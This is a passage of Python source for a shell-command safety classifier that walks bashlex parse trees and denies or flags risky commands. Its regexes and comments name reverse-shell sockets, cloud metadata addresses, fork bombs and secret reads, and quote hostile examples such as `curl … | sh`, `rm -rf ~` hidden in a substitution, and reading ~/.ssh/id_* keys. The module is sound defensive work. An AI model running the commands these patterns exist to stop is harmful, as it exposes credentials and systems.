"""The walker: from a command's text to findings, part by part.

A text is parsed by bashlex (under a bound, :mod:`gitgate.safety.classify.parser`) and every node
is visited: lists, pipelines, subshells, compound commands, functions, ``$(...)``, backticks,
process substitutions, redirections, here-documents. Each simple command is unwrapped
(``env``, ``nice``, ``timeout``, ``xargs``...), then judged: policy deny rules, built-in deny
rules, options and environment that run programs, code it runs (``sh -c``, ``python -c``,
decode-and-execute), the files it reads, and finally whether it is a read-only tool used in a
read-only way. All names and options come from the data tables
(:mod:`gitgate.safety.classify.tables`); this module only knows the shell.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from fnmatch import fnmatchcase
from typing import Any

from gitgate.safety.classify.allowed import LOCAL_HOSTS, is_local_url
from gitgate.safety.classify.arguments import pattern_operand
from gitgate.safety.classify.commands import (
    expand_command_braces,
    judge_argv,
    resolve_computed_name,
    unwrap_quietly,
)
from gitgate.safety.classify.denies import (
    judge_assignments,
    judge_write_target,
    pipeline_secret_hunt,
)
from gitgate.safety.classify.execs import (
    code_findings,
    inline_code,
    is_decoder,
    literal_echo,
    option_values,
    reads_code_from_stdin,
)
from gitgate.safety.classify.model import (
    MAX_TEXT_DEPTH,
    OBJECT_NAME,
    PYTHON_NAME,
    Ctx,
    Finding,
    Word,
    allow,
    ansi_c_word,
    approve,
    argv_text,
    checks_syntax_only,
    command_name,
    deny,
    has_escaped_metachar,
    is_assignment,
    literal_word,
    plain_words,
    short,
    split_words,
    worst,
)
from gitgate.safety.classify.parser import ParserGaveUp, parse, pre_parse_problem
from gitgate.safety.classify.paths import join_cwd, judge_path, secret_reason, startup_file
from gitgate.safety.classify.producers import Names, pipeline_names, pipeline_revisions
from gitgate.safety.classify.reshape import reshape
from gitgate.safety.classify.tables import tables

_SCAN_LIMIT = 65536  # characters of an over-long command the rough deny scan looks at
_MAX_NODE_DEPTH = 64  # AST nesting walked before giving up

# Shell-level patterns, whatever the syntax around them.
_METADATA = re.compile(
    r"169\.254\.169\.254|169\.254\.170\.2(?![0-9])|metadata\.google\.internal|"
    r"metadata\.goog(?![a-z])|fd00:ec2::254|100\.100\.100\.200|2852039166|0xa9fea9fe|"
    r"0251\.0376\.0251\.0376|0xa9\.0xfe\.0xa9\.0xfe|instance-data\.ec2\.internal",
    re.IGNORECASE,
)
_RAW_SOCKET = re.compile(r"/dev/(tcp|udp)/", re.IGNORECASE)
_FORK_BOMB = re.compile(r"([\w:.]+)\s*\(\s*\)\s*\{[^}]*\1\s*\|\s*\1")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
# PowerShell and .NET spellings bash cannot parse: the environment as a whole, one secret
# variable ($env:AWS_SECRET_ACCESS_KEY), a raw TCP client (a reverse shell's first line).
_PS_ENV_DUMP = re.compile(
    r"(?i)GetEnvironmentVariables\s*\(|\b(?:dir|ls|gci|get-childitem|gi|get-item)\s+env:(?:\\?\*?)?(?:\s|$)"
)
_PS_ENV_VAR = re.compile(r"(?i)\$env:([A-Za-z_][A-Za-z0-9_]*)")
_PS_TCP = re.compile(r"(?i)Net\.Sockets\.TCPClient|System\.Net\.Sockets\.Socket\b")
# A Windows path under the user's profile (%USERPROFILE%\.aws\credentials, ~\.ssh\id_rsa):
# bash would strip its backslashes, PowerShell and cmd read it as ~/.aws/credentials.
_WINDOWS_HOME_PATH = re.compile(
    r"(?i)(?:%userprofile%|%homepath%|\$env:userprofile|\$home|~)((?:[\\/]+[^\s\\/'\"`;|&]+)+)"
)

# --------------------------------------------------------------------------------------------
# Texts
# --------------------------------------------------------------------------------------------


def classify_text(text: str, ctx: Ctx) -> Finding:
    """Classify one command string (the top level, or a string from ``sh -c``, ``eval``...)."""
    findings = classify_findings(text, ctx)
    found = worst(findings)
    if found is None:
        return approve(f"empty command: {short(text) or 'nothing to run'}")
    if found.decision == "allow":
        names = ", ".join(dict.fromkeys(ctx.allowed)) or "nothing to run"
        return allow(f"read-only diagnostics: {short(names, 80)}")
    return found


def classify_findings(text: str, ctx: Ctx) -> list[Finding]:
    """All findings about ``text``, with the pre-parse guards applied."""
    if ctx.depth > MAX_TEXT_DEPTH:
        return rough_scan(text, ctx) + [approve(f"nested too deeply: {short(text)}")]
    guard = pre_parse_problem(text)
    if guard is not None:
        return rough_scan(text, ctx) + [approve(guard)]
    if not text.strip():
        return []
    text_level = text_level_findings(text)
    text = _CONSTANT_ARITHMETIC.sub("0", text)  # $((16#ff + 2**10)): bashlex cannot parse it
    try:
        trees = parse(text, ctx.budget)
    except ParserGaveUp as stopped:
        reason = f"the parser gave up ({stopped}): a human must read it"
        return text_level + rough_scan(text, ctx) + [approve(reason)]
    except Exception as exc:  # noqa: BLE001 - bashlex raises many types, even RecursionError
        untimed = _without_time_keyword(text)
        if untimed is not None:
            return text_level + classify_findings(untimed, ctx.deeper())
        reshaped = reshape(text)
        if reshaped is not None:
            # `[[ … ]]`, `case … esac`, written as what bashlex parses; the rough scan of
            # the text as written still denies what it would have denied unparsed.
            rough = [f for f in rough_scan(text, ctx) if f.decision == "deny"]
            return text_level + rough + classify_findings(reshaped, ctx.deeper())
        reason = f"could not parse the command ({type(exc).__name__}): a human must read it"
        return text_level + rough_scan(text, ctx) + [approve(reason)]
    missed: list[str] = []
    quoted_substitution = ("$(" in text or "`" in text) and ("'" in text or '"' in text)
    for tree in trees if quoted_substitution else ():  # the only place they disagree
        _mend_substitutions(tree, text, missed)
    findings = text_level + _comment_findings(text, trees)
    for inner in missed[:8]:
        # `echo 'x'$(rm -rf ~)'y'`: bashlex joins the quotes and loses the substitution
        findings.append(classify_text(inner, ctx.deeper()))
        findings.append(approve(f"a substitution the parser did not see: {short(inner)!r}"))
    if has_escaped_metachar(_FIND_TERMINATOR.sub(" ", text)):
        findings.append(
            approve("escaped shell operator (like '\\;'): the text is not what it seems")
        )
    walker = Walker(text, ctx)
    walker.sequenced = _sequenced_commands(trees)
    for tree in trees:
        findings.extend(walker.node(tree, 0))
    return findings


def _sequenced_commands(trees: Sequence[Any]) -> set[int]:
    """The commands of the top level that run one after the other, unconditionally (joined
    by ``;`` or a newline, not ``&&``, ``||``, ``&`` or ``|``): what they assign holds for
    the commands after them."""
    found: set[int] = set()
    for tree in trees:
        kind = getattr(tree, "kind", "")
        if kind == "command":
            found.add(id(tree))
        elif kind == "list":
            parts = list(getattr(tree, "parts", None) or [])
            for index, part in enumerate(parts):
                if getattr(part, "kind", "") != "command":
                    continue
                around = [parts[i] for i in (index - 1, index + 1) if 0 <= i < len(parts)]
                if all(getattr(p, "op", ";") in (";", "\n") for p in around):
                    found.add(id(part))
    return found


def _mend_substitutions(node: Any, text: str, missed: list[str], depth: int = 0) -> None:
    """Where bashlex and bash disagree on a word's substitutions, side with bash.

    bashlex reads ``$(…)`` inside single quotes in the middle of a word as a substitution
    (``--grep='$(id)'``): bash does not run it, so the part is dropped (only one lying wholly
    inside a single-quoted stretch of the word). And it loses one between two quoted stretches
    (``'x'$(rm -rf ~)'y'``): bash runs it, so its text is added to ``missed``."""
    if depth > _MAX_NODE_DEPTH:
        return
    kind = getattr(node, "kind", "")
    parts = getattr(node, "parts", None)
    if kind in ("word", "assignment"):
        start, end = node.pos
        raw = text[start:end]
        spans = [(a + start, b + start) for a, b in _single_quoted_spans(raw)]
        subs = ("commandsubstitution", "processsubstitution")
        if spans and parts:
            node.parts = parts = [
                part
                for part in parts
                if not (
                    getattr(part, "kind", "") in subs
                    and any(a <= part.pos[0] and part.pos[1] <= b for a, b in spans)
                )
            ]
        seen = [part.pos for part in parts or [] if getattr(part, "kind", "") in subs]
        for at, inner in _unquoted_substitutions(raw):
            if not any(a <= at + start < b for a, b in seen):
                missed.append(inner)
    for child in (parts or []) + list(getattr(node, "list", None) or []):
        _mend_substitutions(child, text, missed, depth + 1)
    for attr in ("command", "output"):
        child = getattr(node, attr, None)
        if hasattr(child, "kind"):
            _mend_substitutions(child, text, missed, depth + 1)


def _single_quoted_spans(raw: str) -> list[tuple[int, int]]:
    """Stretches of ``raw`` (one word) inside single quotes, where nothing expands."""
    return _scan_word(raw)[0]


def _unquoted_substitutions(raw: str) -> list[tuple[int, str]]:
    """``$(…)`` and backquoted commands of one word outside single quotes, as bash finds them
    at the word's top level: (where, the command text)."""
    return _scan_word(raw)[1]


def _scan_word(raw: str) -> tuple[list[tuple[int, int]], list[tuple[int, str]]]:
    """One word read the way bash quotes it: its single-quoted stretches, and its top-level
    substitutions (nesting inside them is not followed: the walk judges the text found)."""
    spans: list[tuple[int, int]] = []
    found: list[tuple[int, str]] = []
    index, double = 0, False
    while index < len(raw):
        char = raw[index]
        if char == "\\":
            index += 2
            continue
        if char == '"':
            double = not double
        elif char == "'" and not double:
            end = raw.find("'", index + 1)
            if end < 0:
                break
            spans.append((index, end + 1))
            index = end
        elif raw.startswith("$(", index) and not raw.startswith("$((", index):
            depth, close = 0, index + 1
            while close < len(raw):
                depth += {"(": 1, ")": -1}.get(raw[close], 0)
                if depth == 0:
                    break
                close += 1
            found.append((index, raw[index + 2 : close]))
            index = close
        elif char == "`":
            close = raw.find("`", index + 1)
            if close < 0:
                break
            found.append((index, raw[index + 1 : close]))
            index = close
        index += 1
    return spans, found


# Substitutions whose output the walk knows: the repository's top directory, and the
# repository's files of one kind (`wc -l $(git ls-files '*.go')` is `wc -l` on a glob).
_TOPLEVEL = re.compile(r"\"?\$\(git rev-parse --show-toplevel\)\"?((?:/[^$`\"'\s]*)?)\"?")
_LISTED = re.compile(
    r"\$\(git ls-files (?:-z )?(?:-- )?'(\*\.\w[\w.]*)'(?: \| head(?: -n ?\d+| -\d+)?)?\)"
    r"|`git ls-files '(\*\.\w+)'`"
)


# Substitutions that print object names (hexadecimal, never an option or a path): `git show
# "$(git merge-base HEAD origin/main)":go.mod` reads go.mod at that commit.
_REV = r"(?!-)[\w~^@{}./-]+"
_OBJECT_NAMES = re.compile(
    r"\"?\$\(git (?:"
    rf"rev-parse(?: --verify| -q| --quiet| --short(?:=\d+)?)* {_REV}"
    rf"|merge-base(?: --fork-point)?(?: {_REV}){{2}}"
    rf"|rev-list(?: -n ?\d+| --max-count=\d+| -\d+| --all| --reverse| --first-parent"
    rf"| --no-merges)*(?: {_REV})*"
    rf"|log(?: -n ?\d+| -\d+| --max-count=\d+)* --(?:format|pretty)=(?:format:)?'?%[Hh]'?"
    rf"(?: {_REV})*(?: -- [\w./-]+)?"
    r")\)\"?(:[\w./-]*)?\"?"
)


def known_substitution(raw: str) -> str | None:
    """What ``raw`` (a word holding a command substitution) expands to, when that output is
    known to the walk; None otherwise. The substitution itself is still judged."""
    top = _TOPLEVEL.fullmatch(raw)
    if top is not None:
        return "." + top.group(1)
    names = _OBJECT_NAMES.fullmatch(raw)
    if names is not None:
        return OBJECT_NAME + (names.group(1) or "")
    listed = _LISTED.fullmatch(raw)
    if listed is not None:
        pattern = listed.group(1) or listed.group(2)
        return pattern if Names((pattern,)).harmless else None
    return None


# $((…)) of numbers and operators only (no name: `$((x))` evaluates x, and x may hold
# `a[$(cmd)]`). Same length is not needed: the walk reads the text it parsed.
_CONSTANT_ARITHMETIC = re.compile(
    r"\$\(\((?:\s+(?!\s)|0[xX][0-9a-fA-F]+(?![0-9a-fA-F])"
    r"|\d+(?:#[0-9A-Za-z@_]+)?(?![0-9A-Za-z@_#])|[-+*/%<>=!&|^~?:,()])*\)\)"
)  # each token can be read one way only: no backtracking blow-up on long input

# `find … -exec CMD {} \;`: the escaped `;` ends find's command, as find's manual spells it.
_FIND_TERMINATOR = re.compile(
    r"(?<=\s)\\;(?=\s*(?:$|[|&;)]|-\w|\\?!|\\?\())|(?<=\s)\\[()!](?=\s)"
)  # and find's grouping: `find . \( -name a -o -name b \)`, a word of its own

# bash's `time` reserved word (`time make`, `a && time -p b`): bashlex does not know it. It
# only reports how long the pipeline took, so the text without it is judged instead.
_TIME_KEYWORD = re.compile(r"(^|[;&|(!{]\s*|\b(?:then|do|else)\s+)time(?:\s+-p)?(?:\s+--)?(?=\s|$)")


def _without_time_keyword(text: str) -> str | None:
    """``text`` with bash's ``time`` keyword removed where it starts a pipeline, or None."""
    untimed = _TIME_KEYWORD.sub(r"\1", text)
    return None if untimed == text else untimed


def _prints_a_script(stage: list[Word]) -> bool:
    """``cat scripts/setup.sh``, ``git show HEAD:install.sh``: a file's text as it is, which
    is what running that file would run (judged as running a repository script)."""
    if not stage:
        return False
    name = command_name(stage[0].text)[0].lower()
    operands = [w.text for w in stage[1:]]
    if name == "cat":
        return all(not text.startswith("-") or text == "-" for text in operands)
    return name == "git" and len(operands) == 2 and operands[0] == "show" and ":" in operands[1]


def _substitutions_of(part: Any) -> list[Any]:
    """The command and process substitutions of a word, an assignment or a here-string
    (``sh <<< "$(curl …)"``: the shell runs that output)."""
    parts = getattr(part, "parts", None) or []
    if getattr(part, "kind", "") == "redirect" and getattr(part, "type", "") == "<<<":
        parts = getattr(getattr(part, "output", None), "parts", None) or []
    return [
        sub
        for sub in parts
        if getattr(sub, "kind", "") in ("commandsubstitution", "processsubstitution")
    ]


def text_level_findings(text: str) -> list[Finding]:
    """Deny patterns found anywhere in the text, whatever the syntax around them."""
    findings: list[Finding] = []
    metadata = _METADATA.search(text)
    if metadata:
        findings.append(deny(f"cloud metadata address {metadata.group(0)!r}: leaks credentials"))
    for socket in _RAW_SOCKET.finditer(text):
        host = text[socket.end() :].split("/", 1)[0].lower()
        if host in LOCAL_HOSTS:
            continue  # `</dev/tcp/localhost/5432`: is the local database up?
        findings.append(deny("/dev/tcp or /dev/udp: raw network connection (reverse shell)"))
        break
    if _FORK_BOMB.search(text):
        findings.append(deny("fork bomb: a function that pipes into itself"))
    subscript = _SUBSCRIPT_COMMAND.search(text)
    if subscript:
        # test -v 'a[$(cmd)]', let, declare, printf -v, (( )): bash evaluates an array
        # subscript as arithmetic, and runs the command substitution inside it, quotes or not
        what = short(subscript.group(0), 40)
        findings.append(deny(f"array subscript {what!r} runs a command when it is evaluated"))
    braces = _BRACE_RANGE.search(text)
    if braces and abs(int(braces.group(2)) - int(braces.group(1))) > _MAX_BRACE_WORDS:
        findings.append(approve(f"brace range {braces.group(0)!r}: millions of words"))
    findings.extend(_windows_findings(text))
    control = _CONTROL.search(text)
    if control:
        code = f"U+{ord(control.group(0)):04X}"
        findings.append(approve(f"control character {code}: may hide text from the reviewer"))
    return findings


_SUBSCRIPT_COMMAND = re.compile(r"[A-Za-z_]\w*\[[^\]]*(?:\$\((?!\()|`)[^\]]*\]")
_BRACE_RANGE = re.compile(r"\{(-?\d{1,18})\.\.(-?\d{1,18})(?:\.\.-?\d+)?\}")
_MAX_BRACE_WORDS = 100_000


def _windows_findings(text: str) -> list[Finding]:
    """PowerShell and cmd forms of reading the environment or a secret (gitgate runs
    commands with sh, but the reviewer and a Windows agent read them as written)."""
    lowered = text.lower()
    if (
        "env:" not in lowered
        and "\\" not in text
        and "sockets" not in lowered
        and ("environment" not in lowered)
    ):
        return []
    findings: list[Finding] = []
    if _PS_ENV_DUMP.search(text):
        findings.append(deny("prints the whole environment (secrets)"))
    for match in _PS_ENV_VAR.finditer(text):
        if tables().secret_variable.search(match.group(1)):
            findings.append(deny(f"reads the secret variable {match.group(1)} ($env:)"))
            break
    if _PS_TCP.search(text):
        findings.append(deny("opens a raw TCP connection from PowerShell (a reverse shell)"))
    for match in _WINDOWS_HOME_PATH.finditer(text):
        if "\\" not in match.group(0) and not match.group(0).startswith(("%", "$")):
            continue  # ~/x with slashes: the ordinary path rules judge it
        statement = re.split(r"[;&|(]", text[: match.start()])[-1].split()
        if statement and statement[0].lower() in tables().name_only:
            continue  # Get-ChildItem, Test-Path: names, not contents
        path = "~/" + "/".join(p for p in re.split(r"[\\/]+", match.group(1)) if p)
        secret = secret_reason(path)
        if secret is not None:
            findings.append(deny(f"names {secret} in a Windows path ({match.group(0)!r})"))
            break
    return findings


def _comment_findings(text: str, trees: Sequence[Any]) -> list[Finding]:
    """A comment runs nothing (``cat README.md # ; rm -rf ~`` is the cat), when bash reads it
    as one too: a ``#`` starting a word. A ``#`` the parser skipped anywhere else is text bash
    may read otherwise, and a human reads it."""
    if "#" not in text:
        return []
    covered = _leaf_spans(trees)
    for index, char in enumerate(text):
        if char == "#" and not any(start <= index < end for start, end in covered):
            if index == 0 or text[index - 1] in " \t\n;&|()":
                continue
            return [approve(f"comment {short(text[index:], 40)!r}: not where bash starts one")]
    return []


def _leaf_spans(trees: Sequence[Any]) -> list[tuple[int, int]]:
    spans: list[tuple[int, int]] = []
    stack: list[Any] = list(trees)
    while stack:
        node = stack.pop()
        kind = getattr(node, "kind", "")
        pos = getattr(node, "pos", None)
        if kind in ("word", "assignment", "heredoc", "redirect") and pos is not None:
            spans.append((int(pos[0]), int(pos[1])))
        for attr in ("parts", "list", "redirects"):
            stack.extend(getattr(node, attr, None) or [])
        for attr in ("command", "output", "heredoc"):
            child = getattr(node, attr, None)
            if child is not None and hasattr(child, "kind"):
                stack.append(child)
    return spans


# --------------------------------------------------------------------------------------------
# Rough scan: used when the parser cannot help. It can only raise the verdict to deny.
# --------------------------------------------------------------------------------------------

_ROUGH_SEPARATORS = re.compile(r"\$\(|[;&|()\n`<>{}]")
_RESERVED = frozenset(
    ["if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "case"]
) | frozenset(["esac", "time", "coproc", "select", "function", "!", "[[", "]]", "in"])


def _rough_pipes_into_shell(text: str) -> list[Finding]:
    """``… curl URL | sh`` in text the parser gave up on (a ``case`` arm, a here-doc):
    a downloader's or decoder's output piped into a shell or an interpreter."""
    data = tables()
    for statement in re.split(r"[;&\n]|\)\s|\bthen\b|\bdo\b|\belse\b", text):
        stages = [stage.split() for stage in statement.split("|")]
        for index, stage in enumerate(stages[1:], start=1):
            if not stage or not reads_code_from_stdin(plain_words(stage)):
                continue
            before = [s for s in stages[:index] if s]
            names = {command_name(s[0])[0].lower() for s in before}
            if names & data.downloaders or any(is_decoder(plain_words(s)) for s in before):
                what = short(statement.strip())
                return [deny(f"{what!r}: pipes downloaded or decoded text into a shell")]
    return []


def rough_scan(text: str, ctx: Ctx) -> list[Finding]:
    """Deny findings from a quote-blind scan of ``text``; never returns allow."""
    text = text[:_SCAN_LIMIT].replace("\x00", " ")
    findings = [f for f in text_level_findings(text) if f.decision == "deny"]
    if ctx.depth > MAX_TEXT_DEPTH:
        return findings
    # Quotes and backslashes are dropped so r''m, "r"m and \rm all read as rm.
    unquoted = re.sub(r"\$'|['\"\\]", "", text)
    findings.extend(_rough_pipes_into_shell(unquoted))
    payload = _PAYLOAD_TEXT.search(unquoted)
    if payload is not None:  # x='a[$(curl …|sh)]'; echo $((x)): a payload the parser missed
        findings.append(deny(f"{short(payload.group(0), 50)!r}: a download-and-run payload"))
    for segment in _ROUGH_SEPARATORS.split(unquoted):
        tokens = segment.split()
        while tokens and (tokens[0] in _RESERVED or is_assignment(tokens[0])):
            tokens.pop(0)
        if not tokens:
            continue
        judged = judge_argv(plain_words(tokens), ctx.deeper(), rough=True)
        findings.extend(f for f in judged if f.decision == "deny")
    return findings


# --------------------------------------------------------------------------------------------
# AST walker
# --------------------------------------------------------------------------------------------


class Walker:
    """Walks bashlex nodes, returning findings for every part."""

    def __init__(self, source: str, ctx: Ctx) -> None:
        self.source = source
        self.ctx = ctx
        self.payload = False  # inside a pipeline, after a downloader or decoder stage
        self.payload_printed = False  # a download-and-run text printed into this pipeline
        self.read_input: set[str] = set()  # variables `read` filled from a file or a pipe
        self.presence_test = False  # in `[ … ]` / `test …`: a variable is tested, not shown
        self.remote_changed = False  # `git remote add|set-url` seen: a push may leave
        self.loop_items: dict[str, str] = {}  # a for loop's variable -> the item walked now
        # `f=README.md; wc -l "$f"`: variables a top-level, unconditional assignment gave a
        # literal value; `banned`: names assigned anywhere else (a subshell, a branch, a
        # command like read or export), whose value the walk cannot know
        self.sequenced: set[int] = set()
        self.line_items: dict[str, str] = {}
        self.banned: set[str] = set()
        self.handlers: dict[str, Callable[[Any, int], list[Finding]]] = {
            "list": self._children,
            "pipeline": self._pipeline,
            "command": self._command,
            "compound": self._compound,
            "function": self._function,
            "if": self._children,
            "for": self._for,
            "while": self._loop,
            "until": self._loop,
            "operator": self._operator,
            "pipe": self._nothing,
            "reservedword": self._nothing,
            "commandsubstitution": self._substitution,
            "processsubstitution": self._substitution,
        }

    def node(self, node: Any, depth: int) -> list[Finding]:
        """Findings for one node and everything under it."""
        if depth > _MAX_NODE_DEPTH:
            return [approve("command is nested too deeply")]
        kind = getattr(node, "kind", None)
        handler = self.handlers.get(str(kind))
        if handler is None:
            return [approve(f"unsupported shell construct ({kind})")]
        return handler(node, depth + 1)

    def _nothing(self, _node: Any, _depth: int) -> list[Finding]:
        return []

    def _children(self, node: Any, depth: int) -> list[Finding]:
        findings: list[Finding] = []
        for child in getattr(node, "parts", None) or getattr(node, "list", None) or []:
            findings.extend(self.node(child, depth))
        return findings

    def _operator(self, node: Any, _depth: int) -> list[Finding]:
        if getattr(node, "op", "") == "&":
            return [approve("'&' runs a command in the background")]
        return []

    def _for(self, node: Any, depth: int) -> list[Finding]:
        """``for k in ~/.ssh/id_*; do cat "$k"; done``: the body is judged once per literal
        item (up to 8) with the variable holding it, so ``$k`` reads what it names."""
        parts = getattr(node, "parts", None) or []
        words = [p for p in parts if getattr(p, "kind", "") == "word"]
        body = [p for p in parts if getattr(p, "kind", "") not in ("word", "reservedword")]
        if not words:
            return self._children(node, depth)
        name, items = words[0].word, words[1:]
        findings: list[Finding] = []
        for item in items:
            findings.extend(self._expansions(item, depth))
        values = [self._word(item) for item in items]
        known = bool(values) and all(not v.dynamic or v.soft for v in values)
        saved = self.ctx.variables.get(name)
        # for v in ${!AWS_*}: the loop walks variables' NAMES, so ${!v} prints their values
        # (an environment dump of that family), like names read from `compgen -v`.
        names_listed = any(_NAME_LISTING.search(v.raw) for v in values)
        fresh_name = names_listed and name not in self.read_input
        if fresh_name:
            self.read_input.add(name)
        # `for f in src/*.py; do head -3 "$f"; done`: "$f" is each item, as sure as the items
        # are, unless the body may give the name another value (any mention of it other
        # than an expansion: f=…, read f, declare f, printf -v f).
        body_text = "".join(self._raw(child) for child in body)
        fixed = known and not re.search(rf"(?<![$\w{{.-]){re.escape(name)}(?!\w)", body_text)
        outer_item = self.loop_items.pop(name, None)
        for value in values[:8] if known else [None]:
            if value is None:
                self.ctx.variables.pop(name, None)
            else:
                self.ctx.variables[name] = value.text
                if fixed and "$" not in value.text and len(values) <= 8:
                    self.loop_items[name] = value.text
            for child in body:
                findings.extend(self.node(child, depth))
        self.loop_items.pop(name, None)
        if outer_item is not None:
            self.loop_items[name] = outer_item
        if saved is None:
            self.ctx.variables.pop(name, None)
        else:
            self.ctx.variables[name] = saved
        if fresh_name:
            self.read_input.discard(name)
        return findings

    def _loop(self, node: Any, depth: int) -> list[Finding]:
        return [*self._children(node, depth), approve("loop: may run forever")]

    def _compound(self, node: Any, depth: int) -> list[Finding]:
        findings: list[Finding] = []
        for child in getattr(node, "list", None) or []:
            findings.extend(self.node(child, depth))
        for redirect in getattr(node, "redirects", None) or []:
            findings.extend(self._redirect(redirect, depth, reads_code=False))
        return findings

    def _function(self, node: Any, depth: int) -> list[Finding]:
        parts = getattr(node, "parts", None) or []
        name = next((p.word for p in parts if getattr(p, "kind", "") == "word"), "?")
        body = [p for p in parts if getattr(p, "kind", "") not in ("word", "reservedword")]
        findings: list[Finding] = []
        for child in body:
            findings.extend(self.node(child, depth))
        if any(name in _command_names(child) for child in body):
            findings.append(deny(f"function {name!r} calls itself: fork bomb"))
        return [*findings, approve(f"defines a shell function {name!r}")]

    def _substitution(self, node: Any, depth: int) -> list[Finding]:
        return self.node(node.command, depth)

    def _pipeline(self, node: Any, depth: int) -> list[Finding]:
        findings: list[Finding] = []
        commands = [p for p in node.parts if getattr(p, "kind", "") not in ("pipe", "reservedword")]
        stages: list[list[Word]] = []
        outer = self.payload
        for index, part in enumerate(commands):
            argv = self._argv_of(part)
            if index > 0 and argv and reads_code_from_stdin(argv):
                findings.extend(self._pipe_into_interpreter(stages, argv, part))
            if index > 0 and sends_to_network(argv):
                findings.append(
                    deny(f"pipes data to {argv_text(argv)!r}: sends it to another host")
                )
            # From a downloader or decoder on, what the pipeline writes to a file is a payload.
            self.payload = self.payload or produces_payload(argv)
            if index > 0:  # what an `xargs` here would hand on (argv is unwrapped)
                plain = [[w.text for w in stage] for stage in stages]
                self.ctx.input_names = pipeline_names(plain, self.ctx.cwd[0])
                self.ctx.input_revisions = pipeline_revisions(plain)
            findings.extend(self.node(part, depth))
            self.ctx.input_names = None
            self.ctx.input_revisions = False
            stages.append(argv)
        self.payload = outer
        self.payload_printed = False
        hunt = pipeline_secret_hunt([[w.text for w in stage] for stage in stages])
        if hunt is not None:
            findings.append(deny(f"{short(self._raw(node))!r}: {hunt}"))
        return findings

    def _pipe_into_interpreter(
        self, stages: list[list[Word]], argv: list[Word], part: Any
    ) -> list[Finding]:
        sink = argv_text(argv)
        upstream = " | ".join(argv_text(stage) for stage in stages)
        names = {command_name(stage[0].text)[0].lower() for stage in stages if stage}
        for stage in stages:  # `a=cur; b=l; $a$b URL | sh`: the name the walk saw assigned
            resolved = (
                resolve_computed_name(stage[0], self.ctx) if stage and stage[0].dynamic else None
            )
            if resolved:
                names.add(command_name(resolved[0].text)[0].lower())
        names |= {name.lower() for name in _command_names_of_stages(self, stages)}
        data = tables()
        if names & data.downloaders:
            pipeline = short(f"{upstream} | {sink}")
            return [deny(f"{pipeline!r}: downloads code and pipes it into {sink!r}")]
        if names & _CLIPBOARD_READERS:
            pipeline = short(f"{upstream} | {sink}")
            return [deny(f"{pipeline!r}: runs whatever the clipboard holds")]
        generator = next((stage for stage in stages if _writes_code(stage)), None)
        if generator is not None:
            what = short(upstream + " | " + sink)
            return [deny(f"{what!r}: a program ({argv_text(generator)}) writes the commands run")]
        decoder = next((stage for stage in stages if is_decoder(stage)), None)
        if decoder is not None:
            what = short(upstream + " | " + sink)
            return [deny(f"{what!r}: decodes text ({argv_text(decoder)}) and runs it")]
        # `echo 'rm -rf /' | sh`: judge the literal text the shell will run; `echo 'exec
        # /bin/sh' | tclsh`: an interpreter's, as its inline code.
        literal = literal_echo(stages[-1]) if stages else None
        head = next((str(w.word) for w in part.parts if getattr(w, "kind", "") == "word"), "")
        handed = command_name(head)[0].lower() in ("xargs", "parallel")  # names, not code
        handed = handed or checks_syntax_only(argv)  # `erb -x -T - x.erb | ruby -c`
        if literal is None and stages and not handed and not _prints_a_script(stages[-1]):
            # `git log -1 --format=%B | sh`, `tail -1 logs/cmd.log | bash`, `ls | sh`: text
            # a program printed (a commit message, a log line, anyone's) becomes the code run
            what = short(upstream + " | " + sink)
            return [deny(f"{what!r}: runs as code what {argv_text(stages[-1])!r} prints")]
        findings = [approve(f"pipes into {sink!r}: runs whatever the left side prints")]
        if literal is not None:
            if command_name(argv[0].text)[0].lower() in data.shells:
                findings.append(classify_text(literal, self.ctx.deeper()))
            else:
                findings.extend(code_findings(literal, self.ctx.deeper()))
        return findings

    def _argv_of(self, node: Any) -> list[Word]:
        if getattr(node, "kind", "") != "command":
            return []
        parts = [p for p in node.parts if getattr(p, "kind", "") == "word"]
        words = [self._word(p, head=index == 0) for index, p in enumerate(parts)]
        return unwrap_quietly(expand_command_braces(words))  # {curl,-s,URL}|{bash,}

    # -- simple commands --------------------------------------------------------------------

    def _command(self, node: Any, depth: int) -> list[Finding]:
        findings: list[Finding] = []
        words: list[Word] = []
        assignments: list[Word] = []
        redirects: list[Any] = []
        first = next((p for p in node.parts if getattr(p, "kind", "") == "word"), None)
        self.presence_test = first is not None and getattr(first, "word", "") in _TESTS
        printed = first is not None and _prints_operands(str(getattr(first, "word", "")))
        for part in node.parts:
            kind = getattr(part, "kind", "")
            if kind == "word":
                findings.extend(
                    self._expansions(part, depth, printed=printed and part is not first)
                )
                words.append(self._word(part, head=part is first))
            elif kind == "assignment":
                findings.extend(self._expansions(part, depth))
                assignments.append(self._word(part))
            elif kind == "redirect":
                redirects.append(part)
            else:
                findings.append(approve(f"unsupported shell construct ({kind})"))
        if any(w.named for w in words) and not _names_as_files(unwrap_quietly(words)):
            words = [Word(w.text, w.raw, True) if w.named else w for w in words]
        unwrapped = unwrap_quietly(words) if words else []
        reads_code = bool(unwrapped) and reads_code_from_stdin(unwrapped)
        findings.extend(self._carried_payload(unwrapped, assignments, redirects))
        findings.extend(self._indirect_expansions(words))
        findings.extend(self._runs_what_it_read(words))
        findings.extend(self._hidden_arguments(node, words))
        findings.extend(self._downloaded_files_run(node, unwrapped))
        findings.extend(self._push_elsewhere(words))
        self._remember_positional(words)
        findings.extend(self._staged_payload_run(unwrapped))
        payload = self.payload or produces_payload(unwrapped)
        for redirect in redirects:
            findings.extend(self._redirect(redirect, depth, reads_code=reads_code, argv=unwrapped))
            self._remember_payload_target(redirect, payload)
        self._remember_downloads(unwrapped)
        self._remember_read(unwrapped, redirects)
        if words and words[0].text == "read":
            # `IFS=. read -r a b c <<< 1.2.3`: IFS splits what read reads, and nothing else.
            assignments = [a for a in assignments if not a.text.startswith("IFS=")]
        findings.extend(judge_assignments(assignments, has_command=bool(words)))
        self._forget_mentioned(node)
        if not words:
            self._remember_assignments(assignments)
            self._remember_line_items(node, assignments)
        if words and command_name(words[0].text)[0] == "eval":
            findings.extend(self._computed_code(node, words))
        elif unwrapped:
            findings.extend(self._computed_code(node, unwrapped))
        if words:
            findings.extend(judge_argv(words, self.ctx))
            self._track_cd(words)
        return _tokens_to_their_service(findings, unwrapped)

    def _carried_payload(
        self, argv: list[Word], assignments: list[Word], redirects: list[Any]
    ) -> list[Finding]:
